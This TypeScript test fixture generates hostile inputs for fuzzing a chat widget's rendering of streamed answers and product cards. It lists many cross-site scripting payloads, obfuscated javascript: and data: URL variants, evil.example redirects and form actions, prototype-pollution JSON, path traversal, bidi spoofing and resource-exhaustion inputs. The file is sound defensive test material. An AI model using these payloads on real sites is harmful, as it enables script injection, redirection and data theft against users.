import type { StreamEvent } from '@svc/contract'
import { eventsOf } from './answers.ts'

/** An answer that means harm, and what it is called. */
export interface HostileCase {
  title: string
  events: StreamEvent[]
}

const RUN = 'globalThis.ran=(globalThis.ran||0)+1'

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,x"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name=a><button>go</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/y)}</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<video src=x onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<svc-chat public-key="svc_pk_evil" base-url="https://evil.example"></svc-chat>`,
  `</div></section><script>${RUN}</script>`,
  `<!--><script>${RUN}</script-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\<script\\>${RUN}\\</script\\>`,
]

const PLACES = ['{}', '- {}', '> {}', '# {}', '[{}](https://a.example)', '`{}`', '```{}\n{}\n```', '**{}**']

const SCHEMES = [
  'javascript:X',
  'JavaScript:X',
  'jAvAsCrIpT:X',
  ' javascript:X',
  '\tjavascript:X',
  'java\tscript:X',
  'java\nscript:X',
  'java&#10;script:X',
  'javascript&colon;X',
  'javascript&#58;X',
  'javascript&#x3A;X',
  '&#106;avascript:X',
  '\\javascript:X',
  'javascript\\:X',
  'javascript:https://a.example/%0aX',
  'javascript://a.example/%0aX',
  '\u0001javascript:X',
  'data:text/html,<script>X</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=X>',
  'DATA:text/html,X',
  'vbscript:X',
  'VBScript:X',
  'blob:https://a.example/1',
  'filesystem:https://a.example/x',
  'file:///etc/passwd',
  'about:blank',
  'view-source:https://a.example',
  'intent://a.example',
  'ws://evil.example',
  'ftp://evil.example',
  'http://evil.example',
  '//evil.example',
  '\\\\evil.example',
  '/relative',
  '?query',
  '#hash',
  'https:evil.example',
  'https:/evil.example',
  'https:\\\\evil.example',
  'https://user:pass@evil.example',
  'https://good.example@evil.example',
  'https://',
  'mailto:a@evil.example',
  'tel:+1',
].map((url) => url.replaceAll('X', RUN))

const FORMS = ['[x]({})', '![x]({})', '<{}>', '[x](<{}>)', 'see {} there']

const BIDI = ['\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u2066\u202e', '\u202c\u2069']

function inText(): HostileCase[] {
  const markup = MARKUP.flatMap((payload) =>
    PLACES.map((place) => ({
      title: `text: ${place} of ${payload}`,
      events: eventsOf(place.replaceAll('{}', payload)),
    })),
  )
  const links = SCHEMES.flatMap((url) =>
    FORMS.map((form) => ({ title: `text: ${form} of ${url}`, events: eventsOf(form.replaceAll('{}', url)) })),
  )
  const bidi = BIDI.map((mark) => ({
    title: `text: direction ${codesOf(mark)}`,
    events: eventsOf(`safe ${mark}elpmaxe.live//:sptth [${mark}moc.elgoog](https://a.example) \`${mark}x\``),
  }))
  return [...markup, ...links, ...bidi]
}

const HUGE: readonly (readonly [string, string])[] = [
  ['a list of 10,000', Array.from({ length: 10_000 }, (_, item) => `- item ${item}`).join('\n')],
  ['a numbered list of 10,000', Array.from({ length: 10_000 }, (_, item) => `${item}. item`).join('\n')],
  ['10,000 paragraphs', 'word\n\n'.repeat(10_000)],
  ['10,000 quotes in each other', `${'> '.repeat(10_000)}x`],
  ['10,000 lists in each other', `${'- '.repeat(10_000)}x`],
  ['10,000 lines that go ever deeper', Array.from({ length: 1000 }, (_, deep) => `${'  '.repeat(deep)}- x`).join('\n')],
  ['100,000 stars', '*a '.repeat(33_000)],
  ['100,000 brackets', '['.repeat(100_000)],
  ['100,000 backticks in runs', Array.from({ length: 400 }, (_, run) => '`'.repeat(run)).join(' ')],
  ['20,000 links', '[x](https://a.example) '.repeat(20_000)],
  ['a word of a million letters', 'x'.repeat(1_000_000)],
  ['a million line ends', '\n'.repeat(1_000_000)],
  ['a code block of 100,000 lines', `\`\`\`\n${'x\n'.repeat(100_000)}`],
  ['marks that stack', `a${'\u0301'.repeat(20_000)}`],
  ['surrogates without a partner', '\ud800\udc00\ud800 \udc00'.repeat(2000)],
  ['nothing that is seen', '\u200b\ufeff\u0000\u0007\u001b[31m'.repeat(2000)],
]

const card = (traits: object) => ({ type: 'product', title: 'Tent', ...traits })
const link = (traits: object) => ({ type: 'link', label: 'Go', url: 'https://a.example', ...traits })
const long = 'x'.repeat(200_000)
const many = <T>(entry: T) => Array.from({ length: 10_000 }, () => entry)

const BLOCKS: readonly (readonly [string, unknown])[] = [
  ['cards that are none', { cards: [null, 0, '', 'x', [], [[]], {}, { type: 'product' }, { title: 'x' }, true] }],
  ['10,000 cards', { cards: many(card({})) }],
  ['10,000 cards with pictures', { cards: many(card({ image: { url: 'https://images.example/a.png', alt: 'a' } })) }],
  ['10,000 actions', { actions: many(link({})) }],
  ['10,000 replies', { actions: many({ type: 'reply', label: 'x' }) }],
  [
    'actions that are none',
    { actions: [null, 7, [], {}, { type: 'link' }, { type: 'reply' }, { type: 'run', label: 'x' }] },
  ],
  ['texts that are objects', { cards: [card({ title: { toString: 'x' }, price: {}, description: [], url: {} })] }],
  ['long texts', { cards: [card({ title: long, price: long, description: long })], actions: [link({ label: long })] }],
  ['a long reply', { actions: [{ type: 'reply', label: 'x', value: long }] }],
  ['cards as an object', { cards: { length: 10_000, 0: card({}) } }],
  ['a card in a card', { cards: [card({ cards: [card({})] })] }],
  ['settled as a word', { settled: 'true', pending: { capability: 'x', input: {} } }],
  ['a wait for a path', { pending: { capability: '../../v1/runtimes', input: {} } }],
  ['a wait for markup', { pending: { capability: '<img src=x onerror=alert(1)>', input: {} } }],
  ['a wait without end', { pending: { capability: 'order-status', input: {}, intervalMs: -1, timeoutMs: 1e308 } }],
  ['a wait with a huge input', { pending: { capability: 'order-status', input: { x: long } } }],
  [
    'numbers that are none',
    { cards: [card({ price: Number.MAX_VALUE })], pending: { capability: 'x', intervalMs: null } },
  ],
  ['deep nesting', deep(2000)],
  ['an array', []],
  ['a text', 'cards'],
]

function deep(levels: number): unknown {
  return JSON.parse(`${'{"cards":['.repeat(levels)}${']}'.repeat(levels)}`)
}

function inBlocks(): HostileCase[] {
  const of = (title: string, svc: unknown): HostileCase => ({
    title: `svc: ${title}`,
    events: eventsOf('Here.', [{ capability: 'search-products', output: { svc } }]),
  })
  const markup = MARKUP.map((payload) =>
    of(payload, {
      cards: [card({ title: payload, price: payload, description: payload, image: { url: payload, alt: payload } })],
      actions: [link({ label: payload, style: payload }), { type: 'reply', label: payload, value: payload }],
    }),
  )
  const addresses = SCHEMES.map((url) =>
    of(url, { cards: [card({ url, image: { url, alt: url } })], actions: [link({ url, label: url })] }),
  )
  const bidi = BIDI.map((mark) =>
    of(`direction ${codesOf(mark)}`, {
      cards: [card({ title: `${mark}abc` })],
      actions: [link({ label: `${mark}x` })],
    }),
  )
  return [...markup, ...addresses, ...bidi, ...BLOCKS.map(([title, svc]) => of(title, svc))]
}

// Written as JSON, because a literal would set the prototype and not the key.
const KEYS = [
  '{"__proto__":{"svc":{"settled":true,"cards":[{"type":"product","title":"polluted"}]}}}',
  '{"svc":{"__proto__":{"cards":[{"type":"product","title":"polluted"}]}}}',
  '{"svc":{"cards":[{"__proto__":{"type":"product","title":"polluted"}}]}}',
  '{"svc":{"constructor":{"prototype":{"polluted":true}}}}',
  '{"svc":{"cards":[{"type":"__proto__","title":"polluted"}],"actions":[{"type":"constructor","label":"polluted"}]}}',
  '{"svc":{"toString":1,"hasOwnProperty":2,"valueOf":3,"cards":[{"type":"product","title":"x","hasOwnProperty":1}]}}',
]

const NAMES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '<img src=x onerror=alert(1)>',
  'x'.repeat(5000),
  '\u202eabc',
  '',
]

function inEvents(): HostileCase[] {
  const keys = KEYS.map((json) => ({
    title: `keys: ${json.slice(0, 60)}`,
    events: eventsOf('Here.', [{ capability: 'x', output: JSON.parse(json) }]),
  }))
  const names = NAMES.map((name) => ({
    title: `a capability named ${name.slice(0, 30)}`,
    events: eventsOf('Here.', [{ capability: name, output: {}, error: `${name} <script>${RUN}</script>` }]),
  }))
  const calls: HostileCase = {
    title: '2,000 calls with cards each',
    events: eventsOf(
      'Here.',
      Array.from({ length: 2000 }, () => ({ capability: 'x', output: { svc: { cards: [card({})] } } })),
    ),
  }
  const pieces: HostileCase = {
    title: '5,000 pieces of text between calls',
    events: [
      ...Array.from({ length: 5000 }, (_, index): StreamEvent[] => [
        { type: 'text', content: `**${index}** ` },
        { type: 'capability_start', callId: `c${index}`, capability: 'x' },
      ]).flat(),
      ...eventsOf('end'),
    ],
  }
  return [...keys, ...names, calls, pieces]
}

function codesOf(text: string): string {
  return [...text].map((sign) => `U+${sign.codePointAt(0)?.toString(16)}`).join(' ')
}

/** Every case, each with a title of its own. */
export function hostileCases(): HostileCase[] {
  const huge = HUGE.map(([title, text]) => ({ title: `text: ${title}`, events: eventsOf(text) }))
  return [...inText(), ...huge, ...inBlocks(), ...inEvents()]
}
